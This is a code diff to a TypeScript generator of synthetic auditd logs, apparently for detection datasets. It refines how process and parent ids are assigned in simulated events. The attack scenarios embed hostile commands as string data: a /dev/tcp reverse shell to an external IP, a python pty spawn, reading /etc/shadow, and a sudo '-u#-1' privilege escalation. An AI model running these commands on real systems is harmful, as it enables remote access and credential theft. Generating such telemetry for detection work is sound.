@@ -4,6 +4,7 @@
 import { AuditdColumns } from '../../kusto/datasetTables.js';
 import { auditExecveArgs, auditProctitle, auditRecord, auditStamp, auditUntrusted } from '../encoders/auditd.js';
 import { tableEncoder } from '../encoders/table.js';
+import { pidAtFirstUse } from '../pids.js';
 import { externalIp, hostNames, internalIp, LINUX_USERS } from '../names.js';
 import type { Rng } from '../prng.js';
 import type { GenEnv, LogTypeDef, ScenarioDef } from '../types.js';
@@ -63,6 +64,12 @@ interface AuditEnv extends GenEnv {
   pid: () => number;
 }
 
+/** A process starting now (the next pid) under a parent that was already running: an older, lower pid. */
+function forked(rng: Rng, e: AuditEnv): { pid: number; ppid: number } {
+  const pid = e.pid();
+  return { pid, ppid: Math.max(1, pid - rng.range(1, 400)) };
+}
+
 const BIN: Record<string, string> = { ls: '/usr/bin/ls', systemctl: '/usr/bin/systemctl', cat: '/usr/bin/cat', bash: '/usr/bin/bash', sh: '/usr/bin/dash', ps: '/usr/bin/ps', grep: '/usr/bin/grep', find: '/usr/bin/find', sudo: '/usr/bin/sudo', curl: '/usr/bin/curl', git: '/usr/bin/git', tar: '/usr/bin/tar', python3: '/usr/bin/python3.10' };
 
 /** An execve event: SYSCALL, EXECVE, CWD, PATH x2, PROCTITLE. */
@@ -108,9 +115,9 @@ const BENIGN: readonly (readonly [(rng: Rng, e: AuditEnv, t: number) => AuditdEv
   [(rng, e, t) => {
     const user = rng.pick(LINUX_USERS.slice(0, 6));
     const uid = 1000 + LINUX_USERS.indexOf(user as (typeof LINUX_USERS)[number]);
-    return execEvent(rng, e, t, rng.pick(e.hosts), { user, uid, auid: uid, ses: rng.range(1, 40), pid: e.pid(), ppid: e.pid(), tty: `pts${rng.int(3)}`, cwd: `/home/${user}`, key: 'exec' }, [...rng.pick(BENIGN_CMDS)]);
+    return execEvent(rng, e, t, rng.pick(e.hosts), { user, uid, auid: uid, ses: rng.range(1, 40), ...forked(rng, e), tty: `pts${rng.int(3)}`, cwd: `/home/${user}`, key: 'exec' }, [...rng.pick(BENIGN_CMDS)]);
   }, 5],
-  [(rng, e, t) => execEvent(rng, e, t, rng.pick(e.hosts), { user: 'root', uid: 0, auid: UNSET, ses: UNSET, pid: e.pid(), ppid: e.pid(), tty: '(none)', cwd: '/', key: 'exec' }, ['sh', '-c', rng.pick(['run-parts --report /etc/cron.hourly', '/usr/lib/php/sessionclean', 'logrotate /etc/logrotate.conf'])]), 3],
+  [(rng, e, t) => execEvent(rng, e, t, rng.pick(e.hosts), { user: 'root', uid: 0, auid: UNSET, ses: UNSET, ...forked(rng, e), tty: '(none)', cwd: '/', key: 'exec' }, ['sh', '-c', rng.pick(['run-parts --report /etc/cron.hourly', '/usr/lib/php/sessionclean', 'logrotate /etc/logrotate.conf'])]), 3],
   [(rng, e, t) => {
     // A cron session walks these PAM records; each is its own audit event.
     const [type, op] = rng.pick(CRON_PAM);
@@ -136,12 +143,11 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const steps: ((t: number) => AuditdEvent)[] = [];
       for (let i = 0; i < n; i++) {
         const acct = rng.pick(['root', 'admin', 'oracle', 'test', 'ubuntu', 'postgres']);
-        const pid = e.pid();
-        steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid, uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', acct, '/usr/sbin/sshd', ip, 'ssh', false));
+        steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid: e.pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', acct, '/usr/sbin/sshd', ip, 'ssh', false));
       }
-      const pid = e.pid();
-      steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid, uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', 'root', '/usr/sbin/sshd', ip, 'ssh', true));
-      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid, uid: 0, auid: 0, ses: 901 }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
+      const pid = pidAtFirstUse(e.pid);
+      steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid: pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', 'root', '/usr/sbin/sshd', ip, 'ssh', true));
+      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid: pid(), uid: 0, auid: 0, ses: 901 }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
       return steps;
     },
   },
@@ -154,12 +160,18 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       const ip = externalIp(rng);
-      const p: Proc = { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: e.pid(), ppid: e.pid(), tty: '(none)', cwd: '/var/www/html', key: 'exec' };
+      // The web server (ppid) predates the attack; each process of the chain forks at its step.
+      const p: Proc = { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: 0, ppid: e.pid(), tty: '(none)', cwd: '/var/www/html', key: 'exec' };
+      const child = (argv: string[]) => (t: number): AuditdEvent => {
+        const proc = { ...p, pid: e.pid() };
+        p.ppid = proc.pid;
+        return execEvent(rng, e, t, node, proc, argv);
+      };
       return [
-        (t) => execEvent(rng, e, t, node, p, ['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`]),
-        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid, pid: p.pid + 1 }, ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]),
-        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid + 1, pid: p.pid + 2 }, ['bash', '-i']),
-        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid + 2, pid: p.pid + 3 }, ['python3', '-c', 'import pty; pty.spawn("/bin/bash")']),
+        child(['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`]),
+        child(['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]),
+        child(['bash', '-i']),
+        child(['python3', '-c', 'import pty; pty.spawn("/bin/bash")']),
       ];
     },
   },
@@ -171,9 +183,10 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
     steps(rng, env) {
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
-      const p: Proc = { user: 'deploy', uid: 0, auid: 1008, ses: 77, pid: e.pid(), ppid: e.pid(), tty: 'pts1', cwd: '/tmp', key: 'exec' };
+      // cat forks when its exec is written; its login shell (ppid) predates the attack.
+      const p: Proc = { user: 'deploy', uid: 0, auid: 1008, ses: 77, pid: 0, ppid: e.pid(), tty: 'pts1', cwd: '/tmp', key: 'exec' };
       return [
-        (t) => execEvent(rng, e, t, node, p, ['cat', '/etc/shadow']),
+        (t) => execEvent(rng, e, t, node, Object.assign(p, { pid: e.pid() }), ['cat', '/etc/shadow']),
         (t) => ({
           t, node, serial: e.serial(node),
           records: [
@@ -195,14 +208,16 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       const uid = 1004;
-      const pid = e.pid();
-      const h = { pid, uid, auid: uid, ses: 12 };
+      // erin's shell predates the attack; sudo forks at its first step, its root shell at its own.
+      const shell = e.pid();
+      const sudo = pidAtFirstUse(e.pid);
+      const h = () => ({ pid: sudo(), uid, auid: uid, ses: 12 });
       return [
-        (t) => pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
-        (t) => pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
-        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, auid: uid, ses: 12, pid, ppid: pid - 3, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
-        (t) => ({ t, node, serial: e.serial(node), records: [userRec('USER_CMD', h, [['cwd', '/home/erin', 'str'], ['cmd', '/bin/bash -p', 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', 'pts/2', 'raw'], ['res', 'success', 'raw']])] }),
-        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses: 12, pid: pid + 1, ppid: pid, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['bash', '-p']),
+        (t) => pamEvent(e, t, node, 'USER_AUTH', h(), 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
+        (t) => pamEvent(e, t, node, 'USER_AUTH', h(), 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
+        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, auid: uid, ses: 12, pid: sudo(), ppid: shell, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
+        (t) => ({ t, node, serial: e.serial(node), records: [userRec('USER_CMD', h(), [['cwd', '/home/erin', 'str'], ['cmd', '/bin/bash -p', 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', 'pts/2', 'raw'], ['res', 'success', 'raw']])] }),
+        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses: 12, pid: e.pid(), ppid: sudo(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['bash', '-p']),
       ];
     },
   },
